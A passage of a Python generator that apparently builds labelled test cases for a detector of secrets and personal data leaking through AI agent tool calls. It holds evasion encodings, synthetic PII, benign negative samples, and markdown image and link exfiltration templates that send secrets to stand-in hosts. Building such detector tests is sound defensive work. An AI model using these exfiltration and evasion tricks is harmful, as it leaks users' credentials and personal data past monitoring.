def _(v): return v, 'config: |\n  vendor:\n    token: %s\n  region: eu' % v
@ev('md-fence')
def _(v): return v, 'Try this:\n\n```bash\nexport TOKEN=%s\n```\n' % v
@ev('space-separated')
def _(v): e = ' '.join(v); return e, 'spell it out: ' + e
@ev('rot13')
def _(v): e = v.translate(str.maketrans(string.ascii_letters, LO[13:] + LO[:13] + UP[13:] + UP[:13])); return e, 'rot13(%s)' % e
for i in range(len(EVS) * 5):
    evname, f = EVS[i % len(EVS)]
    vn, val, var = ev_secret()
    enc, snippet = f(val)
    vals = enc if isinstance(enc, list) else [enc]
    if evname in ('python-concat-plus', 'python-implicit-concat', 'js-template', 'join-parts') and vn not in ('slack-webhook',):
        # ensure prefix-only parts are not counted as the secret material
        vals = [p for p in vals if len(p) >= 4]
    shape = i % 4
    if shape == 0: rq = c_write('src/' + pick(['util.py', 'boot.js', 'cfg.ts', 'init.sh']), snippet + '\n')
    elif shape == 1: rq = pick(TEXT_CARRIERS)(snippet)
    elif shape == 2: rq = req('https://api.acmecorp.io/v1/telemetry', {"event": "sync", "attrs": {"note": snippet, "id": uid()}}, 'http', 'post')
    else: rq = req('https://hooks.acmecorp.io/ingest', {"data": snippet}, 'http', 'post')
    add('evasion/%s/%s/%d' % (evname, vn, i), 'evasion:' + evname, 'secret', vals, rq, plain=[val])
# markdown image / link exfiltration (prompt-injection classic)
for i in range(12):
    vn, val, var = ev_secret()
    if i % 3 == 0: enc = val; txt = 'Summary done. ![status](https://img.shields-cdn.io/badge.png?ref=%s)' % enc
    elif i % 3 == 1: enc = b64u(val); txt = 'Here is the chart: ![c](https://charts.example-cdn.net/r/%s.png)' % enc
    else: enc = urllib.parse.quote(val, safe=''); txt = '[click for details](https://links.acme-share.io/go?u=%s)' % enc
    add('evasion/md-image-exfil/%s/%d' % (vn, i), 'evasion:md-image-exfil', 'secret', [enc], pick([c_slack, c_gh_comment, c_linear])(txt), plain=[val])
# split across adjacent JSON fields
for i in range(10):
    vn, val, var = ev_secret()
    if i % 2 == 0:
        m = len(val) // 2; body = {"k1": val[:m], "k2": val[m:], "region": "eu"}; vals = [val[:m], val[m:]]
    else:
        a, b = len(val) // 3, 2 * len(val) // 3; body = {"parts": [val[:a], val[a:b], val[b:]], "sep": ""}; vals = [val[:a], val[a:b], val[b:]]
    vals = [x for x in vals if len(x) >= 4]
    add('evasion/split-fields/%s/%d' % (vn, i), 'evasion:split-json-fields', 'secret', vals, req('https://hooks.acmecorp.io/ingest', body, 'http', 'post'), plain=[val])
# PII evasions
for i in range(40):
    f, l = person(); em = email_of(f, l); u, d = em.split('@')
    k = i % 10
    if k == 0: e = '%s [at] %s' % (u, d.replace('.', ' [dot] ')); txt = 'reach %s %s at %s' % (f, l, e)
    elif k == 1: e = '%s(at)%s' % (u, d.replace('.', '(dot)')); txt = 'Kontakt: %s' % e
    elif k == 2: e = '%s at %s' % (u, d.replace('.', ' dot ')); txt = 'email me: %s' % e
    elif k == 3: s = ssn(); e = s.replace('-', '.'); em = s; txt = 'SSN %s for %s %s' % (e, f, l)
    elif k == 4: s = ssn(); e = s.replace('-', ' '); em = s; txt = 'social security no. %s' % e
    elif k == 5: kind, c = card(); e = '/'.join(c[j:j + 4] for j in range(0, len(c), 4)); em = c; txt = 'card: %s exp 09/29' % e
    elif k == 6: kind, c = card(); e = '.'.join(c[j:j + 4] for j in range(0, len(c), 4)); em = c; txt = 'pay with %s' % e
    elif k == 7: e = ''.join('&#%d;' % ord(ch) for ch in em); txt = '<a href="mailto:%s">%s %s</a>' % (e, f, l)
    elif k == 8: e = fullwidth(em); txt = 'contact ' + e
    else: e = b64(json.dumps({"name": f + ' ' + l, "email": em})); txt = 'ctx=' + e
    add('evasion-pii/%d/%d' % (k, i), 'evasion:pii-' + ['email-at-dot-brackets', 'email-paren', 'email-words', 'ssn-dots', 'ssn-spaces', 'card-slashes', 'card-dots', 'email-entities', 'email-fullwidth', 'b64-json-email'][k], 'pii', [e], pick(TEXT_CARRIERS)(txt), plain=[em])

# ================================================================ PII
MONTHS = {'en': ['January', 'February', 'March', 'April', 'May', 'June', 'July', 'August', 'September', 'October', 'November', 'December'],
          'fr': ['janvier', 'février', 'mars', 'avril', 'mai', 'juin', 'juillet', 'août', 'septembre', 'octobre', 'novembre', 'décembre'],
          'de': ['Januar', 'Februar', 'März', 'April', 'Mai', 'Juni', 'Juli', 'August', 'September', 'Oktober', 'November', 'Dezember'],
          'es': ['enero', 'febrero', 'marzo', 'abril', 'mayo', 'junio', 'julio', 'agosto', 'septiembre', 'octubre', 'noviembre', 'diciembre'],
          'it': ['gennaio', 'febbraio', 'marzo', 'aprile', 'maggio', 'giugno', 'luglio', 'agosto', 'settembre', 'ottobre', 'novembre', 'dicembre'],
          'pt': ['janeiro', 'fevereiro', 'março', 'abril', 'maio', 'junho', 'julho', 'agosto', 'setembro', 'outubro', 'novembro', 'dezembro'],
          'nl': ['januari', 'februari', 'maart', 'april', 'mei', 'juni', 'juli', 'augustus', 'september', 'oktober', 'november', 'december'],
          'pl': ['stycznia', 'lutego', 'marca', 'kwietnia', 'maja', 'czerwca', 'lipca', 'sierpnia', 'września', 'października', 'listopada', 'grudnia'],
          'sv': ['januari', 'februari', 'mars', 'april', 'maj', 'juni', 'juli', 'augusti', 'september', 'oktober', 'november', 'december']}
def dob_forms():
    y, m, d = R.randint(1950, 2004), R.randint(1, 12), R.randint(1, 28)
    f, l = person(); n = f + ' ' + l
    forms = [
        ('en-long', '%s %02d, %d' % (MONTHS['en'][m - 1], d, y), '%s (DOB: %s) called about the claim.'),
        ('en-dmy', '%d %s %d' % (d, MONTHS['en'][m - 1], y), 'Patient %s, born %s, allergies: none.'),
        ('iso', '%d-%02d-%02d' % (y, m, d), '{"full_name": "%s", "date_of_birth": "%s"}'),
        ('us-slash', '%02d/%02d/%d' % (m, d, y), 'Name: %s | D.O.B. %s | Plan: Gold'),
        ('eu-dot', '%02d.%02d.%d' % (d, m, y), '%s, geb. %s, wohnhaft in Köln'),
        ('fr', '%d %s %d' % (d, MONTHS['fr'][m - 1], y), '%s, né le %s à Lyon'),
        ('de', '%d. %s %d' % (d, MONTHS['de'][m - 1], y), '%s wurde am %s geboren.'),
        ('es', '%d de %s de %d' % (d, MONTHS['es'][m - 1], y), '%s, nacida el %s en Sevilla'),
        ('it', '%d %s %d' % (d, MONTHS['it'][m - 1], y), '%s, nato il %s a Torino'),
        ('pt', '%d de %s de %d' % (d, MONTHS['pt'][m - 1], y), '%s, nascido em %s, CPF pendente'),
        ('nl', '%d %s %d' % (d, MONTHS['nl'][m - 1], y), '%s, geboren op %s te Utrecht'),
        ('pl', '%d %s %d' % (d, MONTHS['pl'][m - 1], y), '%s, urodzona %s r. w Krakowie'),
        ('sv', '%d %s %d' % (d, MONTHS['sv'][m - 1], y), '%s, född %s i Göteborg'),
        ('ja', '%d年%d月%d日' % (y, m, d), '%s様（生年月日：%s）のご予約'),
        ('zh', '%d年%d月%d日' % (y, m, d), '客户%s，出生日期：%s'),
        ('ru', '%02d.%02d.%d' % (d, m, y), '%s, дата рождения: %s'),
        ('tr', '%02d.%02d.%d' % (d, m, y), '%s, doğum tarihi: %s'),
        ('en-ord', '%s %d%s, %d' % (MONTHS['en'][m - 1][:3], d, 'th' if 4 <= d <= 20 else {1: 'st', 2: 'nd', 3: 'rd'}.get(d % 10, 'th'), y), 'Applicant: %s; birthday %s'),
    ]
    return n, forms
for i in range(54):
    n, forms = dob_forms(); tag, dob, tpl = forms[i % len(forms)]
    txt = tpl % (n, dob)
    sh = i % 3
    if sh == 0: rq = pick(TEXT_CARRIERS)(txt)
    elif sh == 1: rq = req('https://api.hubapi.com/crm/v3/objects/contacts', {"properties": {"firstname": n.split()[0], "lastname": n.split()[1], "notes": txt, "lifecyclestage": "customer"}}, 'hubspot', 'create_contact')
    else: rq = c_zendesk('Verification done.\n' + txt + '\nTicket ref #%d' % R.randint(10**5, 10**6))
    add('pii-dob/%s/%d' % (tag, i), 'pii:dob-' + tag, 'pii', [dob], rq)
PHONES = [('us', lambda: '(%d) %d-%04d' % (R.randint(201, 989), R.randint(201, 999), R.randint(0, 9999))), ('us-e164', lambda: '+1 %d %d %04d' % (R.randint(201, 989), R.randint(201, 999), R.randint(0, 9999))),
          ('uk', lambda: '+44 7%d %06d' % (R.randint(400, 999), R.randint(0, 999999))), ('uk-land', lambda: '020 %d %04d' % (R.randint(3000, 8999), R.randint(0, 9999))), ('de', lambda: '+49 151 %08d' % R.randint(0, 99999999)),
          ('fr', lambda: '+33 6 %02d %02d %02d %02d' % tuple(R.randint(0, 99) for _ in range(4))), ('fr-nat', lambda: '06 %02d %02d %02d %02d' % tuple(R.randint(0, 99) for _ in range(4))), ('es', lambda: '+34 6%02d %03d %03d' % (R.randint(0, 99), R.randint(0, 999), R.randint(0, 999))),
          ('it', lambda: '+39 3%02d %03d %04d' % (R.randint(20, 99), R.randint(0, 999), R.randint(0, 9999))), ('nl', lambda: '+31 6 %04d %04d' % (R.randint(0, 9999), R.randint(0, 9999))), ('in', lambda: '+91 9%04d %05d' % (R.randint(0, 9999), R.randint(0, 99999))),
          ('br', lambda: '+55 11 9%04d-%04d' % (R.randint(0, 9999), R.randint(0, 9999))), ('jp', lambda: '090-%04d-%04d' % (R.randint(0, 9999), R.randint(0, 9999))), ('au', lambda: '+61 4%02d %03d %03d' % (R.randint(0, 99), R.randint(0, 999), R.randint(0, 999))),
          ('mx', lambda: '+52 55 %04d %04d' % (R.randint(0, 9999), R.randint(0, 9999))), ('ng', lambda: '+234 80%d %03d %04d' % (R.randint(2, 9), R.randint(0, 999), R.randint(0, 9999))), ('pl', lambda: '+48 %03d %03d %03d' % (R.randint(500, 799), R.randint(0, 999), R.randint(0, 999))),
          ('za', lambda: '+27 82 %03d %04d' % (R.randint(0, 999), R.randint(0, 9999)))]
for i in range(36):
    tag, g = PHONES[i % len(PHONES)]; ph = g(); f, l = person()
    sh = i % 4
    if sh == 0: rq = c_slack('Customer %s %s asked for a callback on %s after 5pm.' % (f, l, ph))
    elif sh == 1: rq = req('https://api.hubapi.com/crm/v3/objects/contacts/batch/create', {"inputs": [{"properties": {"firstname": f, "lastname": l, "phone": ph, "company": "Globex"}}]}, 'hubspot', 'batch_create')
    elif sh == 2: rq = c_write('exports/leads.csv', 'name,phone,source\n%s %s,%s,webinar\n' % (f, l, ph))
    else: rq = c_email('Thanks!\n--\n%s %s\nSenior Buyer, Globex\nMobile: %s' % (f, l, ph))
    add('pii-phone/%s/%d' % (tag, i), 'pii:phone-' + tag.split('-')[0], 'pii', [ph], rq)
for i in range(24):
    cc, ib = iban(); f, l = person(); fmt = iban_fmt(ib) if i % 2 else ib
    sh = i % 3
    if sh == 0: rq = c_email('Hi, please update my payout details: account holder %s %s, IBAN %s. Thanks.' % (f, l, fmt))
    elif sh == 1: rq = req('https://api.acme-erp.io/v1/vendors', {"vendor": {"name": "%s %s" % (f, l), "bank": {"iban": fmt, "bic": rs(UP, 6) + rs(UP + DG, 2)}}}, 'erp', 'create_vendor')
    else: rq = c_write('payroll/sepa_batch.csv', 'name;iban;amount\n%s %s;%s;2450,00\n' % (f, l, fmt))
    add('pii-iban/%s/%d' % (cc, i), 'pii:iban', 'pii', [fmt], rq)
for i in range(24):
    kind, c = card(); f, l = person(); fmt = pick([group_card(c), group_card(c, '-'), c])
    sh = i % 3
    if sh == 0: rq = c_zendesk('Customer %s %s says the charge on card %s failed twice, exp %02d/%d.' % (f, l, fmt, R.randint(1, 12), R.randint(27, 31)))
    elif sh == 1: rq = req('https://api.acmecorp.io/v1/orders/%d/notes' % R.randint(10**5, 10**6), {"note": "manual payment", "card_number": fmt, "holder": f + ' ' + l}, 'http', 'post')
    else: rq = c_slack('can you refund %s? last order paid with %s' % (f, fmt))
    add('pii-card/%s/%d' % (kind, i), 'pii:card-' + kind, 'pii', [fmt], rq)
for i in range(14):
    s = ssn(); f, l = person()
    sh = i % 3
    if sh == 0: rq = c_write('hr/onboarding.csv', 'employee,ssn,start\n%s %s,%s,2026-12-01\n' % (f, l, s))
    elif sh == 1: rq = req('https://api.gusto-like.io/v1/employees', {"first_name": f, "last_name": l, "ssn": s.replace('-', '') if i % 2 else s}, 'payroll', 'create_employee')
    else: rq = c_email('W-2 correction for %s %s, SSN %s.' % (f, l, s))
    v = s.replace('-', '') if (sh == 1 and i % 2) else s
    add('pii-ssn/%d' % i, 'pii:ssn', 'pii', [v], rq)
PASS = [('us', lambda: rs('123456789', 1) + rs(DG, 8)), ('uk', lambda: rs('123456789', 1) + rs(DG, 8)), ('de', lambda: 'C' + rs('CFGHJKLMNPRTVWXYZ0123456789', 8)), ('fr', lambda: rs(DG, 2) + rs(UP, 2) + rs(DG, 5)), ('in', lambda: rs(UP, 1) + rs(DG, 7)), ('es', lambda: rs(UP, 3) + rs(DG, 6))]
for i in range(14):
    tag, g = PASS[i % len(PASS)]; p = g(); f, l = person()
    txt = pick(['Traveller: %s %s, passport no. %s, expires 2031-04-30.', 'Pasaporte de %s %s: %s', 'Reisepass %s %s Nr. %s', '{"traveler": "%s %s", "passport_number": "%s", "nationality": "' + tag.upper() + '"}'])
    rq = pick([c_email, c_slack, c_zendesk])(txt % (f, l, p))
    add('pii-passport/%s/%d' % (tag, i), 'pii:passport', 'pii', [p], rq)
for i in range(36):
    f, l = person(); em = email_of(f, l); sh = i % 6
    if sh == 0: rq = c_write('exports/customers.csv', 'id,first_name,last_name,email,country\n' + '\n'.join('%d,%s,%s,%s,%s' % (R.randint(1000, 9999), *(lambda a, b: (a, b, email_of(a, b)))(*person()), pick(['DE', 'FR', 'US'])) for _ in range(0)) + '%d,%s,%s,%s,PT\n' % (R.randint(1000, 9999), f, l, em))
    elif sh == 1: rq = c_slack('FYI %s (%s) is the new account owner for Globex' % (f, em))
    elif sh == 2: rq = req('https://gmail.googleapis.com/gmail/v1/users/me/messages/send', {"raw": None, "headers": [{"name": "To", "value": '"%s %s" <%s>' % (f, l, em)}, {"name": "Cc", "value": "team@acmecorp.io"}, {"name": "Subject", "value": "Contract"}]}, 'gmail', 'send')
    elif sh == 3: rq = req('https://api.hubapi.com/crm/v3/objects/contacts', {"properties": {"email": em, "firstname": f, "lastname": l}}, 'hubspot', 'create_contact')
    elif sh == 4: rq = c_write('contacts/%s.vcf' % l.lower().replace(' ', ''), 'BEGIN:VCARD\nVERSION:3.0\nFN:%s %s\nN:%s;%s;;;\nEMAIL;TYPE=INTERNET:%s\nEND:VCARD\n' % (f, l, l, f, em))
    else: rq = c_email('From: %s %s <%s>\nDate: Mon, 30 Nov 2026 09:12:44 +0100\nSubject: invoice\n\nsee attached' % (f, l, em))
    add('pii-email/%d/%d' % (sh, i), 'pii:email-' + ['csv', 'prose', 'header', 'json', 'vcard', 'quoted-header'][sh], 'pii', [em], rq)
# big bodies with one person's data
for i in range(30):
    f, l = person(); kind = i % 5
    if kind == 0:
        rows = csv_orders(R.randint(150, 400)); kc, c = card(); fmt = group_card(c); rows.insert(len(rows) // 2, 'ORD-%d,2026-11-02,REF-00000,1,0.00,EUR,note: customer %s %s card %s,hold' % (R.randint(10**7, 10**8), f, l, fmt)); vals = [fmt]
        rq = c_write('exports/orders_2026-11.csv', '\n'.join(rows))
    elif kind == 1:
        cc, ib = iban(); vals = [ib]
        rq = c_email(email_thread(R.randint(6, 12), 'From finance: please wire the refund to %s %s, IBAN %s\n' % (f, l, ib)))
    elif kind == 2:
        em = email_of(f, l); vals = [em]
        rq = req('https://api.apify.com/v2/datasets/%s/items' % rs(AN, 17), [{"url": "https://blog.globex.com/team", "html": html_page('<div class="author"><span>%s %s</span> <a href="mailto:%s">%s</a></div>' % (f, l, em, em))}], 'scraper', 'push_items')
    elif kind == 3:
        n, forms = dob_forms(); tag, dob, tpl = pick(forms[:13]); vals = [dob]
        res = search_results(R.randint(20, 40)); res[R.randint(2, len(res) - 1)]["snippet"] = tpl % (n, dob)
        rq = req('https://api.acmecorp.io/agent/memory', {"query": "claim 4471", "results": res}, 'memory', 'store_search_results')
    else:
        tag, g = pick(PHONES); ph = g(); vals = [ph]
        L = ci_log_lines(R.randint(150, 300)); L.insert(len(L) // 2, '2026-11-30T10:01:02Z WARN sms gateway rejected recipient %s (%s %s)' % (ph, f, l))
        rq = c_gitlab('nightly failed:\n```\n' + '\n'.join(L) + '\n```')
    add('big-pii/%d/%d' % (kind, i), 'pii:big-' + ['csv-card', 'thread-iban', 'html-email', 'search-dob', 'cilog-phone'][kind], 'pii', vals, rq)

# ================================================================ NEGATIVES
NEG = {}
def neg(family, n=8, note=None):
    def d(f): NEG[family] = (f, n, note); return f
    return d
@neg('id-uuid')
def _(): return c_slack('Deployment %s finished; trace %s, request %s' % (uid(), uid(), uid()))
@neg('id-ulid')
def _(): return req('https://api.acmecorp.io/v1/events', {"events": [{"id": ulid(), "type": "order.created"} for _ in range(20)]}, 'http', 'post')
@neg('id-ksuid')
def _(): return c_write('fixtures/jobs.json', json.dumps([{"job_id": rs(AN, 27), "state": "done"} for _ in range(15)], indent=1))
@neg('id-snowflake', note='snowflakes are not Luhn-filtered: ~10% pass Luhn by chance, as in real traffic')
def _(): return req('https://discord.com/api/v10/channels/%d/messages' % R.randint(10**17, 10**18), {"content": "see <#%d> and <@%d>" % (R.randint(10**17, 10**18), R.randint(10**17, 10**18)), "message_reference": {"message_id": str(R.randint(10**18, 2 * 10**18)), "guild_id": str(R.randint(10**17, 10**18))}}, 'discord', 'create_message')
@neg('id-snowflake-json-number', note='tweet/discord ids as JSON numbers; not Luhn-filtered')
def _(): return req('https://api.acmecorp.io/v1/social/ingest', {"tweets": [{"id": R.randint(10**18, 1.9 * 10**18), "author_id": R.randint(10**8, 10**10), "like_count": R.randint(0, 900)} for _ in range(8)]}, 'http', 'post')
@neg('id-mongo-objectid')
def _(): return req('https://data.mongodb-api.com/app/x/endpoint/data/v1/action/find', {"documents": [{"_id": {"$oid": objid()}, "userId": objid(), "sku": "SKU-%d" % R.randint(1000, 9999)} for _ in range(12)]}, 'mongo', 'find')
@neg('id-stripe-objects')
def _(): return c_slack('Refund done: %s on %s for %s (invoice %s, sub %s, price %s, evt %s)' % ('re_3' + rs(AN, 23), 'ch_3' + rs(AN, 23), 'cus_' + rs(AN, 14), 'in_1' + rs(AN, 23), 'sub_1' + rs(AN, 23), 'price_1' + rs(AN, 23), 'evt_1' + rs(AN, 23)))
@neg('id-stripe-pi-client-secret', note='DEBATABLE: PaymentIntent client_secret is handed to the browser, but Stripe says not to log it or expose it beyond the customer')
def _(): return req('https://api.acmecorp.io/v1/checkout', {"payment_intent": "pi_3" + rs(AN, 23), "client_secret": "pi_3%s_secret_%s" % (rs(AN, 23), rs(AN, 25))}, 'http', 'post')
@neg('id-aws-arn')
def _(): return c_write('iam/policy.json', json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": ["s3:GetObject"], "Resource": ["arn:aws:s3:::acme-%s/*" % rs(LO, 6)]}, {"Effect": "Allow", "Action": "kms:Decrypt", "Resource": "arn:aws:kms:eu-west-1:%d:key/%s" % (R.randint(10**11, 10**12), uid())}, {"Effect": "Allow", "Action": "secretsmanager:GetSecretValue", "Resource": "arn:aws:secretsmanager:eu-west-1:%d:secret:prod/db-%s" % (R.randint(10**11, 10**12), rs(AN, 6))}]}, indent=2))
@neg('id-aws-request-ids')
def _(): return c_gh_comment('S3 returned 503 SlowDown.\n```\nx-amz-request-id: %s\nx-amz-id-2: %s\nRequestId: %s\n```' % (rs(UP + DG, 16), b64(bytes(R.getrandbits(8) for _ in range(56))), uid()))
@neg('id-gcp-resources')
def _(): return req('https://compute.googleapis.com/compute/v1/projects/acme-prod-%d/zones/europe-west1-b/operations' % R.randint(100, 999), {"items": [{"id": str(R.randint(10**18, 9 * 10**18)), "name": "operation-%d-%s-%s-%s" % (R.randint(10**12, 10**13), rs(HEX, 13), rs(HEX, 8), rs(HEX, 8)), "selfLink": "https://www.googleapis.com/compute/v1/projects/acme-prod/zones/europe-west1-b/operations/x"} for _ in range(6)]}, 'gcp', 'list_operations', method='GET')
@neg('id-azure-resource')
def _(): return c_slack('`/subscriptions/%s/resourceGroups/rg-prod/providers/Microsoft.Web/sites/acme-api` correlation-id %s tenant %s' % (uid(), uid(), uid()))
@neg('hash-git-sha')
def _(): return c_gh_pr('\n'.join('- %s %s' % (sha1(), pick(['fix: retry', 'feat: export csv', 'chore(deps): bump serde from 1.0.%d to 1.0.%d' % (R.randint(100, 200), R.randint(200, 220))])) for _ in range(15)))
@neg('hash-sha256sums')
def _(): return c_write('dist/SHA256SUMS', '\n'.join('%s  acme-cli_%s_%s.tar.gz' % (sha256(), '2.%d.0' % R.randint(0, 9), pick(['linux_amd64', 'darwin_arm64', 'windows_amd64'])) for _ in range(8)))
@neg('hash-sha512')
def _(): return c_write('dist/acme.tar.gz.sha512', rs(HEX, 128) + '  acme.tar.gz\n')
@neg('hash-npm-integrity-big', note='large package-lock.json')
def _(): return c_write('package-lock.json', json.dumps({"name": "web", "lockfileVersion": 3, "packages": npm_lock_entries(R.randint(80, 200))}, indent=2))
@neg('hash-yarn-lock')
def _(): return c_write('yarn.lock', '\n'.join('"%s@^%d.%d.0":\n  version "%d.%d.%d"\n  resolved "https://registry.yarnpkg.com/%s/-/%s-%d.%d.%d.tgz#%s"\n  integrity sha512-%s\n' % ((lambda nm, a, b, c: (nm, a, b, a, b, c, nm, nm, a, b, c, sha1(), b64(bytes(R.getrandbits(8) for _ in range(64)))))(rs(LO, 7), R.randint(0, 9), R.randint(0, 20), R.randint(0, 9))) for _ in range(40)))
@neg('hash-docker-digest')
def _(): return req('mcp://shell/tools/exec', {"command": "docker pull ghcr.io/acme/api@sha256:%s" % sha256(), "stdout": '\n'.join('%s: Pull complete' % rs(HEX, 12) for _ in range(8)) + '\nDigest: sha256:%s\nStatus: Downloaded newer image' % sha256()}, 'shell', 'exec')
@neg('hash-go-sum')
def _(): return c_write('go.sum', '\n'.join('github.com/%s/%s v%d.%d.%d h1:%s=\ngithub.com/%s/%s v%d.%d.%d/go.mod h1:%s=' % ((lambda o, r, a, b, c: (o, r, a, b, c, b64(bytes(R.getrandbits(8) for _ in range(32)))[:43], o, r, a, b, c, b64(bytes(R.getrandbits(8) for _ in range(32)))[:43]))(rs(LO, 6), rs(LO, 7), R.randint(0, 2), R.randint(0, 30), R.randint(0, 9))) for _ in range(30)))
@neg('hash-cargo-lock')
def _(): return c_write('Cargo.lock', '# This file is automatically @generated by Cargo.\nversion = 4\n\n' + '\n'.join('[[package]]\nname = "%s"\nversion = "%d.%d.%d"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "%s"\n' % (rs(LO, 8), R.randint(0, 2), R.randint(0, 40), R.randint(0, 20), sha256()) for _ in range(50)))
@neg('hash-sri-html')
def _(): return c_write('public/index.html', '<script src="https://cdn.jsdelivr.net/npm/alpinejs@3.14.1/dist/cdn.min.js" integrity="sha384-%s" crossorigin="anonymous" defer></script>\n<link rel="stylesheet" href="/app.css" integrity="sha256-%s">' % (b64(bytes(R.getrandbits(8) for _ in range(48))), b64(bytes(R.getrandbits(8) for _ in range(32)))))
@neg('hash-pip-hashes')
def _(): return c_write('requirements.lock', '\n'.join('%s==%d.%d.%d \\\n    --hash=sha256:%s \\\n    --hash=sha256:%s' % (rs(LO, 8), R.randint(0, 5), R.randint(0, 30), R.randint(0, 9), sha256(), sha256()) for _ in range(20)))
@neg('hash-terraform-lock')
def _(): return c_write('.terraform.lock.hcl', 'provider "registry.terraform.io/hashicorp/aws" {\n  version     = "5.%d.0"\n  constraints = "~> 5.0"\n  hashes = [\n%s\n  ]\n}\n' % (R.randint(10, 80), '\n'.join('    "%s",' % pick(['h1:' + b64(bytes(R.getrandbits(8) for _ in range(32))), 'zh:' + sha256()]) for _ in range(14))))
@neg('hash-nix-store')
def _(): return c_gh_comment('build failed:\n```\n' + '\n'.join('/nix/store/%s-%s-%d.%d' % (rs('0123456789abcdfghijklmnpqrsvwxyz', 32), rs(LO, 6), R.randint(0, 9), R.randint(0, 9)) for _ in range(12)) + '\n```')
@neg('hash-ipfs-cid')
def _(): return req('https://api.pinata.cloud/pinning/pinByHash', {"hashToPin": "bafybei" + rs('abcdefghijklmnopqrstuvwxyz234567', 52), "pinataMetadata": {"name": "site-build"}}, 'pinata', 'pin')
@neg('crypto-tx-hashes', note='public chain data: tx hashes look like 64-hex private keys')
def _(): return req('https://api.acmecorp.io/v1/ledger/import', {"txs": [{"transactionHash": "0x" + sha256(), "blockHash": "0x" + sha256(), "from": "0x" + rs(HEX, 40), "to": "0x" + rs(HEX, 40), "blockNumber": R.randint(10**7, 2 * 10**7)} for _ in range(6)]}, 'http', 'post')
@neg('cursor-pagination')
def _(): return req('https://api.notion.com/v1/databases/%s/query' % uid(), {"start_cursor": uid(), "page_size": 100, "next": b64(json.dumps({"offset": R.randint(100, 9000), "ts": R.randint(1.7e9, 1.8e9), "id": objid()}))}, 'notion', 'query_database')
@neg('cursor-slack-graphql')
def _(): return req('https://slack.com/api/conversations.history', {"channel": "C0" + rs(UP + DG, 9), "cursor": "bmV4dF90czox" + rs(DG, 16), "after": "Y3Vyc29yOnYyOpK" + rs(AN, 40) + "==" }, 'slack', 'conversations.history')
@neg('etag')
def _(): return req('https://api.github.com/repos/acme/web/contents/README.md', {"message": "docs", "sha": sha1(), "content": b64("# Web\n\nRun `npm start`.\n")}, 'github', 'update_file', headers={"If-None-Match": 'W/"%s"' % rs(HEX, 32), "If-Match": '"%s"' % sha1()}, method='PUT')
@neg('github-contents-base64', note='base64 of a harmless README returned/sent via contents API')
def _(): return req('https://api.github.com/repos/acme/docs/contents/guide.md', {"message": "update guide", "content": b64(' '.join(rs(LO, R.randint(2, 9)) for _ in range(400))), "sha": sha1()}, 'github', 'update_file', method='PUT')
@neg('public-media-ids')
def _(): return c_slack('Video: https://www.youtube.com/watch?v=%s  doc: https://docs.google.com/document/d/%s/edit  img: https://images.acme-cdn.io/%s.jpg?w=640&s=%s' % (rs(AN + '-_', 11), rs(AN + '-_', 44), rs(LO + DG, 20), rs(HEX, 32)))
@neg('data-uri-image')
def _(): return c_write('src/assets/icons.ts', 'export const logo = "data:image/png;base64,%s";\nexport const spinner = "data:image/gif;base64,%s";\n' % (b64(b'\x89PNG\r\n\x1a\n' + bytes(R.getrandbits(8) for _ in range(900))), b64(b'GIF89a' + bytes(R.getrandbits(8) for _ in range(300)))))
@neg('data-uri-font')
def _(): return c_write('public/fonts.css', '@font-face{font-family:"Inter";font-display:swap;src:url(data:font/woff2;base64,%s) format("woff2")}' % b64(bytes(R.getrandbits(8) for _ in range(4000))))
@neg('minified-js')
def _(): return c_write('dist/vendor.%s.js' % rs(HEX, 8), ''.join('function %s(%s){return %s.%s(%s)^0x%s}' % (rs(LO, 2), rs(LO, 1), rs(LO, 1), rs(LO + UP, 3), rs(LO, 1), rs(HEX, 6)) for _ in range(300)) + ';var k="%s";' % rs(AN + '+/', 64))
@neg('minified-css')
def _(): return c_write('dist/app.%s.css' % rs(HEX, 8), ''.join('.%s{color:#%s;margin:%dpx}' % (rs(LO, 5), rs(HEX, 6), R.randint(0, 20)) for _ in range(400)))
@neg('source-map')
def _(): return c_write('dist/app.js.map', json.dumps({"version": 3, "file": "app.js", "sources": ["webpack://app/./src/index.ts"], "names": ["a", "b"], "mappings": ';'.join(','.join(rs('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', R.randint(4, 8)) for _ in range(12)) for _ in range(200))}))
@neg('public-ssh-keys')
def _(): return c_write('/home/deploy/.ssh/authorized_keys', '\n'.join(pick(['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s %s@laptop' % (rs(AN + '+/', 43), rs(LO, 6)), 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ%s %s@ci' % (rs(AN + '+/', 540), rs(LO, 5))]) for _ in range(5)))
@neg('public-certificate')
def _(): return c_write('certs/ca-bundle.crt', '\n'.join(pem('CERTIFICATE', 900) for _ in range(3)))
@neg('public-key-pem')
def _(): return req('https://api.acmecorp.io/v1/webhooks/keys', {"kid": rs(AN, 16), "public_key": pem('PUBLIC KEY', 294)}, 'http', 'post')
@neg('pgp-public-block')
def _(): return c_write('KEYS', '-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n%s\n=%s\n-----END PGP PUBLIC KEY BLOCK-----\n' % ('\n'.join(rs(AN + '+/', 64) for _ in range(20)), rs(AN, 4)))
@neg('jwks-public', note='JWKS holds public keys only')
def _(): return req('https://api.acmecorp.io/v1/cache/jwks', {"keys": [{"kty": "RSA", "use": "sig", "kid": rs(AN, 20), "alg": "RS256", "e": "AQAB", "n": b64u(bytes(R.getrandbits(8) for _ in range(256))), "x5t": b64u(bytes(R.getrandbits(8) for _ in range(20)))} for _ in range(2)]}, 'http', 'post')
DOC_EX = [('AKIAIOSFODNN7EXAMPLE', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'), ('sk_test_4eC39HqLyjWDarjtT1zdp7dc', None),
          ('eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c', None),
          ('DefaultEndpointsProtocol=http;AccountName=devstoreaccount1;AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==;BlobEndpoint=http://127.0.0.1:10000/devstoreaccount1;', None),
